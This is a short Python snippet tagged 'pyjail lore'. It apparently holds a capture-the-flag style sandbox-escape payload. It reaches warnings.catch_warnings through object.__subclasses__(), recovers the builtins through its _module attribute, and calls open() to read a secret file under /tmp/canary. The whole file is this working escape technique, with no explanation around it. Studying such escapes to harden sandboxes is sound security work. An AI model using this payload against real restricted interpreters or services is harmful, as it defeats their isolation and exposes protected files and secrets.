# source: pyjail lore
# effect: secret

import warnings

found = [kind for kind in "".__class__.__mro__[1].__subclasses__() if kind.__name__ == "catch_warnings"]
print(found[0]()._module.__builtins__["open"]("/tmp/canary/secret").read())
